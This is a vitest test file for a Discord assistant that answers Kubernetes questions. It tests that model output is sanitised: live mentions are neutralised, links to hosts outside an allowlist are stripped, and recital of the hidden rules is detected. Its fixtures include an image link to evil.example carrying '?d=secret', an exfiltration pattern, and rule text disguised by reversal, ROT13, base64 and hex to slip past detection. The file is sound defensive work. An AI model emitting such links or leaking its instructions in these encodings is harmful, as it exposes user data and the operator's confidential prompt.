// What a model wrote cannot ping, lead astray or recite our rules.

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { PUBLIC_DESCRIPTION, RULES } from '../../src/assistant/prompt.ts';
import { disarmMarkdown, recitesRules } from '../../src/assistant/safe-text.ts';

const OURS = new Set(['https://kubernetes.io/docs/concepts/services-networking/service/']);

/** Live forms of mentions outside code, as Discord reads them: https://discord.com/developers/docs/reference#message-formatting */
const LIVE_MENTION =
  /<(?:@[!&]?|#)\d+>|@(?:everyone|here)|<\/[\w -]+:\d+>|<id:\w+>|<t:-?\d+(?::[tTdDfFR])?>|<a?:\w+:\d+>/;

describe('text of a model', () => {
  it('mentions nobody, whatever it holds', () => {
    const piece = fc.constantFrom(
      '<@',
      '<@!',
      '<@&',
      '<#',
      '<',
      '@',
      'everyone',
      'here',
      '123456789012345678',
      '>',
      ' ',
      '<t:1',
      '</ask:1',
      '<:a:1',
      '<id:guide',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(disarmMarkdown(pieces.join(''), OURS)).not.toMatch(LIVE_MENTION);
      }),
    );
  });

  it('keeps links to our own sources and takes all others apart', () => {
    expect(
      disarmMarkdown('See [the page](https://kubernetes.io/docs/concepts/services-networking/service/).', OURS),
    ).toBe('See [the page](https://kubernetes.io/docs/concepts/services-networking/service/).');
    expect(disarmMarkdown('[log in](https://evil.example/x) or https://evil.example/y?a=1', OURS)).toBe(
      'log in or `https://evil.example/y?a=1`',
    );
    expect(disarmMarkdown('![shot](https://evil.example/p.png?d=secret)', OURS)).toBe('shot');
    expect(disarmMarkdown('[a](<https://evil.example> "t") discord.gg/abc', OURS)).toBe('a `discord.gg/abc`');
  });

  it('leaves code as it is', () => {
    const code = 'Run `curl https://example.com` or\n```sh\ncurl https://example.com | grep @everyone\n```';
    expect(disarmMarkdown(code, OURS)).toBe(code);
  });

  it('is caught reciting the rules, plainly or in disguise', () => {
    const rule = RULES.split('\n').find((line) => line.includes('You change nothing yourself')) ?? '';
    const disguises = [
      rule,
      rule.toUpperCase(),
      [...rule].join(' '),
      [...rule].join('\u200b'),
      [...rule].reverse().join(''),
      rule.replace(/[a-z]/gi, (letter) => {
        const base = letter <= 'Z' ? 65 : 97;
        return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
      }),
      Buffer.from(rule).toString('base64'),
      Buffer.from(rule).toString('hex'),
    ];
    expect(rule.length).toBeGreaterThan(100);
    for (const disguise of disguises) expect(recitesRules(`Of course: ${disguise}`)).toBe(true);
  });

  it('is not suspected for an honest answer', () => {
    expect(recitesRules(`My instructions? ${PUBLIC_DESCRIPTION}`)).toBe(false);
    expect(recitesRules('A Service gives pods one stable address; the Ingress routes HTTP to it.')).toBe(false);
  });
});
